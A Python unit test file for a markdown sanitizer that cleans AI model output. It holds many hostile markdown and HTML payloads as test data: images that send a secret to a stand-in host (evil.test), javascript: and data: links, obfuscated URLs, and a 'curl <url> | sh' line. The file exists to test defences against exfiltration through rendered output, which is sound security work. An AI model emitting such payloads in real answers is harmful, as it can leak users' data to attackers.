from __future__ import annotations

from dataclasses import replace
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.sanitize.renderers import ALLOWED, PIECES, harm, judged, renderers

from aisecure.call import Call
from aisecure.errors import Misconfigured
from aisecure.notices import LocalNotices
from aisecure.ports import Ports
from aisecure.principal import Principal
from aisecure.sanitize import (
    CHAT,
    HtmlPolicy,
    MarkdownFilter,
    MarkdownGuard,
    Settings,
    TextGuard,
    build,
    sanitize_markdown,
)
from aisecure.storage import Storage

STRICT = replace(CHAT, link_hosts=frozenset({ALLOWED}), image_hosts=frozenset({ALLOWED}))
texts = st.lists(st.sampled_from(PIECES), max_size=16).map("".join)


def in_pieces(text: str, cuts: list[int], **options: Any) -> tuple[str, MarkdownFilter]:
    stream = MarkdownFilter(**options)
    marks = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    pieces = [text[a:b] for a, b in pairwise(marks)]
    return "".join(map(stream.feed, pieces)) + stream.finish(), stream


# The laws


@given(texts, st.lists(st.integers(0, 1000), max_size=20))
def test_how_a_text_is_cut_makes_no_difference(text: str, cuts: list[int]) -> None:
    whole = MarkdownFilter(policy=STRICT)
    wanted = whole.feed(text) + whole.finish()
    got, stream = in_pieces(text, cuts, policy=STRICT)
    assert got == wanted
    assert stream.findings == whole.findings


@given(texts)
def test_one_character_at_a_time_makes_no_difference(text: str) -> None:
    assert in_pieces(text, list(range(len(text))))[0] == sanitize_markdown(text)


@given(texts)
def test_no_renderer_makes_anything_harmful_of_it(text: str) -> None:
    cleaned = sanitize_markdown(text, policy=STRICT)
    assert [(name, found) for name, found in judged(cleaned) if found] == []


@given(texts, texts)
def test_what_was_written_is_never_taken_back(first: str, second: str) -> None:
    stream = MarkdownFilter()
    assert sanitize_markdown(first + second).startswith(stream.feed(first))


@given(st.text(max_size=80))
def test_any_text_is_taken(text: str) -> None:
    assert isinstance(sanitize_markdown(text, policy=STRICT), str)


# Images, links, definitions, addresses

ELSEWHERE = "https://evil.test/p?q=secret"
IMAGES = [
    f"![chart]({ELSEWHERE})",
    f'![chart]({ELSEWHERE} "title")',
    f"![chart](<{ELSEWHERE}>)",
    f"![]({ELSEWHERE})",
    f"![a `b` c]({ELSEWHERE})",
    f"![a [b] c]({ELSEWHERE})",
    f"![chart][r]\n\n[r]: {ELSEWHERE}",
    f"![r]\n\n[r]: {ELSEWHERE}",
    f"![chart][r]\n\n[r]:\n  {ELSEWHERE}",
    f"> ![r][]\n\n> [r]:\n> {ELSEWHERE} 'title'",
    f"[![chart]({ELSEWHERE})](https://{ALLOWED}/)",
    f"![a]({ELSEWHERE})[b](https://{ALLOWED}/)",
    f"![a ![b]({ELSEWHERE}) c]({ELSEWHERE})",
    "![x](//evil.test/p)",
    "![x](https:\\/\\/evil.test/p)",
    "![x](https&#58;//evil.test/p)",
    f"![x](https://{ALLOWED}@evil.test/p)",
    f"![x](https://{ALLOWED}.evil.test/p)",
    f"<img src='{ELSEWHERE}'>",
    f"<div style='background:url({ELSEWHERE})'>x</div>",
    f"- item\n\n  <img src='{ELSEWHERE}'>",
    f"a `b\nc ` ![x]({ELSEWHERE}) `",
    f"| a ` | ![x]({ELSEWHERE}) ` |\n|---|---|\n",
    f"$ ` $ ![x]({ELSEWHERE}) `",
    f"<a title='`'>![x]({ELSEWHERE})`",
    f"- a\n  ```\n![x]({ELSEWHERE})\n  ```",
    f"text\n    ```\n    a ``` ![x]({ELSEWHERE})\n    ```",
    f"```a`b\n![x]({ELSEWHERE})\n```",
    f"> ```\n![x]({ELSEWHERE})\n> ```",
    f"$$\n```\n$$\n![x]({ELSEWHERE})\n```",
    f"---\n```\n---\n![x]({ELSEWHERE})\n```",
    f"`{'`' * 5000} ![x]({ELSEWHERE}) `",
    f"https://{ALLOWED}/x`` ![x]({ELSEWHERE}) ``",
    f"```a|b\n---|---\n![x]({ELSEWHERE})",
    f"\\\\![x]({ELSEWHERE})",
    f"`a\\![x]({ELSEWHERE})",
    f"www.a!![x]({ELSEWHERE})",
    f"//a![x]({ELSEWHERE})",
]


@pytest.mark.parametrize("text", IMAGES)
@pytest.mark.parametrize("policy", [CHAT, STRICT], ids=["any link", "listed links"])
def test_no_image_is_loaded_from_elsewhere(text: str, policy: HtmlPolicy) -> None:
    cleaned = sanitize_markdown(text, policy=policy)
    for name, render in renderers().items():
        assert [found for found in harm(render(cleaned)) if "loads" in found or "<img" in found] == [], name
    # Every one of them is an attack on somebody.
    assert any(harm(render(text)) for render in renderers().values())


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:x)", "[a](JAVA&#115;CRIPT:x)", "[a](<javascript:x>)", "[a]( javascript:x )", "[a][r]\n\n[r]: javascript:x",
        "<javascript:x>", "<JavaScript:x>", "[a](vbscript:x)", "[a](data:text/html,x)", "<a href=javascript:x>a</a>",
        "[a](javascript\\:x)", "[a `b`](javascript:x)", "[a\nb](javascript:x)", "[a [b](/c)](javascript:x)", "[a](\x01javascript:x)",
    ],
)  # fmt: skip
def test_no_link_runs_anything(text: str) -> None:
    for name, found in judged(sanitize_markdown(text)):
        assert [one for one in found if "leads to" in one and "//" not in one] == [], name


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://evil.test/x)", "[a][r]\n\n[r]: https://evil.test/x", "<https://evil.test/x>", "https://evil.test/x",
        "www.evil.test/x", "HTTP://evil.test", "[a](//evil.test)", "[a](\\\\evil.test)", "see https://ok.example\\.evil.test",
        "https://ok.example@evil.test/", "https://ok.example&#46;evil.test/", "http://https://evil.test/x", "http:///evil.test",
        "http://x:(javascript:x)", "[a](https://evil.test)(https://evil.test)", "h![ttps](x)://evil.test/x",
    ],
)  # fmt: skip
def test_with_listed_hosts_no_link_leads_elsewhere(text: str) -> None:
    for name, found in judged(sanitize_markdown(text, policy=STRICT)):
        assert found == [], name


SAFE = [
    "",
    "plain text, a < b, 3 <4 and Wow! [sic] (see a[0])",
    "# Title\n\n**bold** _it_ ~~no~~ `code`\n\n- [ ] todo\n- [x] done\n\n1. a\n2. b\n\n> quoted\n\n---\n",
    f"![logo](https://{ALLOWED}/logo.png)",
    f'[docs](https://{ALLOWED}/docs?page=2#top "The docs") and [here](/local_(x)) or [there](#top)',
    f"See [guide][g].\n\n[g]: https://{ALLOWED}/guide 'Guide'\n",
    f"<https://{ALLOWED}/a> <help@{ALLOWED}> https://{ALLOWED}/b, https://{ALLOWED}.",
    "Use this:\n\n```md\n![img](https://evil.test/p.png)\n<b>&</b>\n```\nand go on",
    "Write `![img](https://evil.test/p.png)` or ``<script>`` to embed.",
    "1. Do this:\n\n   ```bash\n   curl <url> | sh\n\n   echo '![x](y)'\n   ```\n\n2. Then\n   - nested\n\n     ```html\n     <div>\n     ```\n",
    "- ```python\n  List<String>\n  ```\n",
    "> ```js\n> if (a<b) x\n> ```\n",
    "~~~\n<b>\n~~~\n",
    "````md\n```\n<b>\n```\n````\n",
    "| a | b |\n|---|---|\n| `x` | 1 <br> 2 |\n",
    "H<sub>2</sub>O, x<sup>2</sup>, press <kbd>Ctrl</kbd>",
    "```python\r\nx = '<b>'\r\n```\r\nafter\r\n",
    "$$\nx < y\n$$\n\n```html\n<b>\n```\n",
    "\u65e5\u672c\u8a9e\u300c`<b>`\u300d \u0645\u0631\u062d\u0628\u0627 `<i>`",
    "def f(x: list[int]):\n    return x[0]: int",
    "a note[^1]\n\n[^1]: see the text",
]


@pytest.mark.parametrize("text", SAFE)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert sanitize_markdown(text, policy=STRICT) == text


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("![a chart](https://e.test/x)", "\u2039a chart\u203a"),
        (f"![x](https://{ALLOWED}/go?to=https://evil.test/)", "\u2039x\u203a"),
        ("![](x)", "\u2039image\u203a"),
        ("![a*b](x)", "\u2039image\u203a"),
        ("![a][b]", "\\![a][b]"),
        ("[a](https://e.test/x)", "[a]\u2039e[.]test\u203a"),
        ("[a](javascript:x)", "[a]\u2039link\u203a"),
        ("[a](b c)", "[a]\\(b c)"),
        ("[a]: javascript:x", "[a]\\: javascript:x"),
        ("https://e.test/x", "hxxps://e[.]test/x"),
        ("ftp://e.test", "fxp://e[.]test"),
        ("www.e.test", "www[.]e[.]test"),
        ("<b>x</b>", "&lt;b>x&lt;/b>"),
        ("\\<b>", "&lt;b>"),
        ("<br>", "&lt;br>"),
        ("<", "&lt;"),
        ("```mermaid\nA-->B\n```", "```text mermaid\nA-->B\n```"),
        ("```{image} https://e.test\n```", "```text {image} https://e.test\n```"),
        ("::: {figure} x", "\\::: {figure} x"),
        ("$\\href{javascript:x}{y}$", "$href{javascript:x}{y}$"),
        ("a\0b\ud800", "a\ufffdb\ufffd"),
    ],
)
def test_what_is_broken_reads_like_this(text: str, wanted: str) -> None:
    assert sanitize_markdown(text, policy=STRICT) == wanted


def test_diagrams_stay_when_they_are_wanted() -> None:
    assert sanitize_markdown("```mermaid\nA-->B\n```", diagrams=True) == "```mermaid\nA-->B\n```"


def test_without_listed_hosts_links_stay() -> None:
    text = "[a](https://e.test/x) https://e.test <https://e.test> [r]\n\n[r]: https://e.test\n"
    assert sanitize_markdown(text) == text


def test_an_image_is_judged_before_any_of_it_is_written() -> None:
    stream = MarkdownFilter()
    assert stream.feed("See ![chart](https://evil.test/?q=") == "See "
    assert stream.feed("secret") == ""
    assert stream.feed(") now") == "\u2039chart\u203a now"


def test_text_flows_while_it_cannot_become_anything() -> None:
    stream = MarkdownFilter()
    assert "".join(map(stream.feed, "Just prose. ")) == "Just prose. "
    assert stream.feed("`code that goes on") == "`code that goes on"
    stream.finish()


@pytest.mark.parametrize(
    "begun", ["![", "](", "]:", "`<", "<a:", "![x](", "]: ", "\\hre", "www.", "```", "     "]
)
def test_little_is_held_back(begun: str) -> None:
    stream = MarkdownFilter(policy=STRICT)
    written = sum(len(stream.feed(piece)) for piece in [begun, *["a" * 100] * 50])
    assert written >= 5000 - 2048


@pytest.mark.parametrize(
    "piece",
    ["`", "` ", "`<", "![", "](", "]:", "]: ", "<", "<a", "> ", "[", "www.", "\\", "\n", "```\n", "- ", "](((", "![a](", "\r", "\\href", "$$\n", "//a.", "    "],
)  # fmt: skip
def test_hostile_megabytes_pass(piece: str) -> None:
    text = piece * (200_000 // len(piece))
    assert len(sanitize_markdown(text, policy=STRICT)) >= len(text) * 0.5


def test_findings_say_what_was_broken_and_where() -> None:
    stream = MarkdownFilter(policy=STRICT)
    text = "![a](x) <b> [c](javascript:d) ![e](f)"
    stream.feed(text)
    stream.finish()
    assert {(one.kind, text[one.start : one.end]) for one in stream.findings} == {
        ("markdown.image", text),
        ("markdown.html", "<"),
        ("markdown.link", "](javascript:d)"),
    }


@pytest.mark.parametrize("bad", [None, 5, b"x", ["x"]])
def test_only_text_is_taken(bad: object) -> None:
    with pytest.raises(TypeError, match="takes a str"):
        sanitize_markdown(bad)


def test_a_policy_needs_a_name_that_there_is() -> None:
    with pytest.raises(ValueError, match="chat"):
        sanitize_markdown("x", policy="chatty")


# The guard

CALL = Call(Principal("u"), "invoke", "model:m", None)


def test_the_guard_cleans_answers_of_any_shape() -> None:
    changed = MarkdownGuard().after(CALL, {"text": "![a](https://e.test/)", "n": 5})
    assert changed is not None
    assert changed.value == {"text": "\u2039a\u203a", "n": 5}
    assert [(one.kind, one.path) for one in changed.findings] == [("markdown.image", "/text")]


def test_the_guard_leaves_what_is_harmless_and_what_tools_read() -> None:
    item = {"type": "function_call", "name": "search", "arguments": '{"q": "<b>"}'}
    assert MarkdownGuard().after(CALL, "**Done.**") is None
    assert MarkdownGuard().after(CALL, [item]) is None


def test_the_guard_cleans_streams_as_they_come() -> None:
    @MarkdownGuard(policy=STRICT)
    def stream() -> object:
        yield from ["Done. ![cha", "rt](https://evil.test/?", "q=1) `<", "b>` <b", ">"]

    assert "".join(stream()) == "Done. \u2039chart\u203a `<b>` &lt;b>"


def test_markdown_in_the_settings_takes_the_place_of_html(tmp_path: Path) -> None:
    ports = Ports(tmp_path, tmp_path, lambda: Storage(":memory:"), LocalNotices())
    text, markdown = build(Settings(markdown=True, image_hosts=frozenset({"cdn.example"})), ports)
    assert isinstance(text, TextGuard)
    assert isinstance(markdown, MarkdownGuard)
    assert markdown.policy.image_hosts == {"cdn.example"}
    with pytest.raises(Misconfigured, match="link_hosts"):
        build(Settings(markdown=True, link_hosts=frozenset({"https://x"})), ports)
